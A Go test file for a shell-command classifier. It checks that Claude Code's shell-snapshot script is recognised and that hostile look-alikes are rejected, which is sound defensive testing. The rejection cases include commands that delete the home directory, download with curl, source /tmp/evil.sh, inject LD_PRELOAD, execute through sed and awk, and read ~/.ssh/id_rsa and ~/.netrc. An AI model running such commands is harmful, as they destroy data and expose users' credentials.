package classify

import (
	"strings"
	"testing"
)

// claudeSnapshotScript is the script Claude Code 2.x runs (bash -c -l) to
// write its shell snapshot, as its getSnapshotScript renders it for bash with
// a ~/.bashrc (the template text is Claude Code's; the PATH, rg path and
// snapshot name are one user's).
const claudeSnapshotScript = `SNAPSHOT_FILE=/home/damu/.claude/shell-snapshots/snapshot-bash-1788557415117-j0hu0n.sh
      source "/home/damu/.bashrc" < /dev/null

      # First, create/clear the snapshot file
      echo "# Snapshot file" >| "$SNAPSHOT_FILE"

      # When this file is sourced, we first unalias to avoid conflicts
      # This is necessary because aliases get "frozen" inside function definitions at definition time,
      # which can cause unexpected behavior when functions use commands that conflict with aliases
      echo "# Unset all aliases to avoid conflicts with functions" >> "$SNAPSHOT_FILE"
      echo "unalias -a 2>/dev/null || true" >> "$SNAPSHOT_FILE"

      echo "# Functions" >> "$SNAPSHOT_FILE"

      # Force autoload all functions first
      declare -f > /dev/null 2>&1

      # Now get user function names - filter completion functions (single underscore prefix)
      # but keep double-underscore helpers (e.g. __zsh_like_cd from mise, __pyenv_init)
      declare -F | cut -d' ' -f3 | grep -vE '^_[^_]' | while read func; do
        # Encode the function to base64, preserving all special characters
        encoded_func=$(declare -f "$func" | base64 )
        # Write the function definition to the snapshot
        echo "eval \"\$(echo '$encoded_func' | base64 -d)\" > /dev/null 2>&1" >> "$SNAPSHOT_FILE"
      done

      echo "# Shell Options" >> "$SNAPSHOT_FILE"
      shopt -p | head -n 1000 >> "$SNAPSHOT_FILE"
      set -o | grep "on" | awk '{print "set -o " $1}' | head -n 1000 >> "$SNAPSHOT_FILE"
      echo "shopt -s expand_aliases" >> "$SNAPSHOT_FILE"

      echo "# Aliases" >> "$SNAPSHOT_FILE"
      alias | sed 's/^alias //g' | sed 's/^/alias -- /' | head -n 1000 >> "$SNAPSHOT_FILE"

      # Check for rg availability
      echo "# Check for rg availability" >> "$SNAPSHOT_FILE"
      echo "if ! (unalias rg 2>/dev/null; command -v rg) >/dev/null 2>&1; then" >> "$SNAPSHOT_FILE"
      echo '  alias rg='"'/usr/lib/node_modules/@anthropic-ai/claude-code/vendor/ripgrep/x64-linux/rg'" >> "$SNAPSHOT_FILE"
      echo "fi" >> "$SNAPSHOT_FILE"

      # Add PATH to the file
      echo "export PATH=/home/damu/.local/bin\:/usr/local/bin\:/usr/bin\:/bin" >> "$SNAPSHOT_FILE"

      # Exit silently on success, only report errors
      if [ ! -f "$SNAPSHOT_FILE" ]; then
        echo "Error: Snapshot file was not created at $SNAPSHOT_FILE" >&2
        exit 1
      fi
    `

var snapCtx = EnvelopeContext{SnapshotDirs: []string{"/home/damu/.claude/shell-snapshots"}, TempDirs: []string{"/tmp"}}
var snapRC = []string{"/home/damu/.bashrc", "/home/damu/.bash_profile", "/home/damu/.profile"}

func TestSnapshotScript(t *testing.T) {
	e, ok := RecognizeSnapshotScript(claudeSnapshotScript, snapCtx, snapRC)
	if !ok || e.Snapshot != "/home/damu/.claude/shell-snapshots/snapshot-bash-1788557415117-j0hu0n.sh" || e.Agent != "claude" {
		t.Fatalf("Claude's snapshot script: got %+v %v", e, ok)
	}
	// without an rc file: Claude writes a comment in its place
	noRC := strings.Replace(claudeSnapshotScript, `source "/home/damu/.bashrc" < /dev/null`, "# No user config file to source", 1)
	if _, ok := RecognizeSnapshotScript(noRC, snapCtx, snapRC); !ok {
		t.Error("the script without an rc file is not recognised")
	}
	if _, ok := RecognizeEnvelope(claudeSnapshotScript, snapCtx); ok {
		t.Error("a snapshot script recognised as a command envelope")
	}
}

// Each look-alike adds one thing a snapshot script never does.
func TestSnapshotScriptHostile(t *testing.T) {
	const tail = "\necho fi >> \"$SNAPSHOT_FILE\"\n"
	head := "SNAPSHOT_FILE=/home/damu/.claude/shell-snapshots/snapshot-bash-1-a.sh\necho x >| \"$SNAPSHOT_FILE\"\n"
	for _, c := range []struct{ name, in string }{
		{"snapshot elsewhere", strings.Replace(head, "/home/damu/.claude/shell-snapshots/", "/home/damu/", 1) + tail},
		{"snapshot name", strings.Replace(head, "snapshot-bash-1-a.sh", ".bashrc", 1) + tail},
		{"write elsewhere", head + `echo 'rm -rf ~' >> /home/damu/.bashrc` + tail},
		{"write through another variable", head + "F=/home/damu/.bashrc\necho x >> \"$F\"" + tail},
		{"reassigned", head + "SNAPSHOT_FILE=/home/damu/.bashrc\necho x >> \"$SNAPSHOT_FILE\"" + tail},
		{"another command", head + "rm -rf /home/damu" + tail},
		{"a download", head + "echo $(curl -s https://example.com/x) >> \"$SNAPSHOT_FILE\"" + tail},
		{"another file sourced", head + "source /tmp/evil.sh < /dev/null" + tail},
		{"dot sourced", head + ". /tmp/evil.sh" + tail},
		{"read into PATH", head + "read PATH << EOF\n/tmp/evil\nEOF\ncut -d: -f1 < /dev/null" + tail},
		{"loop over PATH", head + "for PATH in /tmp/evil; do cut; done" + tail},
		{"arithmetic", head + "(( x = 1 ))" + tail},
		{"default assigns", head + "echo ${PATH:=/tmp/evil} >> \"$SNAPSHOT_FILE\"" + tail},
		{"sed executes", head + "alias | sed 's/x/y/e' >> \"$SNAPSHOT_FILE\"" + tail},
		{"awk executes", head + "set -o | awk 'BEGIN{system(\"id\")}' >> \"$SNAPSHOT_FILE\"" + tail},
		{"declare exports", head + "declare -x LD_PRELOAD=/tmp/e.so" + tail},
		{"environment prefix", head + "LD_PRELOAD=/tmp/e.so cut -d: -f1 < /dev/null" + tail},
		{"cat a file", head + "cat /home/damu/.ssh/id_rsa >> \"$SNAPSHOT_FILE\"" + tail},
		{"function", head + "function cut { :; }" + tail},
		{"background", head + "echo x >> \"$SNAPSHOT_FILE\" &" + tail},
		{"process substitution", head + "cat < <(echo x)" + tail},
		{"read a file", head + "head -n 1 < /home/damu/.netrc >> \"$SNAPSHOT_FILE\"" + tail},
		{"not first", "echo x\n" + head + tail},
		{"snapshot expanded", "SNAPSHOT_FILE=$HOME/.claude/shell-snapshots/snapshot-bash-1-a.sh\necho x >| \"$SNAPSHOT_FILE\"" + tail},
	} {
		if e, ok := RecognizeSnapshotScript(c.in, snapCtx, snapRC); ok {
			t.Errorf("%s: recognised as Claude's snapshot script (%s)", c.name, e.Snapshot)
		}
	}
}

func FuzzSnapshotScript(f *testing.F) {
	f.Add(claudeSnapshotScript)
	f.Add("SNAPSHOT_FILE=/home/damu/.claude/shell-snapshots/snapshot-bash-1-a.sh\necho x >| \"$SNAPSHOT_FILE\"\nrm -rf ~\n")
	f.Fuzz(func(t *testing.T, in string) {
		e, ok := RecognizeSnapshotScript(in, snapCtx, snapRC)
		if !ok {
			return
		}
		// what is recognised writes a snapshot in the snapshot directory, and runs no rm
		if !strings.HasPrefix(e.Snapshot, "/home/damu/.claude/shell-snapshots/snapshot-") {
			t.Fatalf("recognised %q writing %q", in, e.Snapshot)
		}
		for _, c := range Analyze(in, Options{Cwd: "/home/damu", Home: "/home/damu"}).Commands {
			if c.Name == "rm" || c.Name == "curl" || c.Name == "sh" || c.Name == "bash" || c.Name == "eval" {
				t.Fatalf("recognised %q, which runs %s", in, c.Name)
			}
		}
	})
}
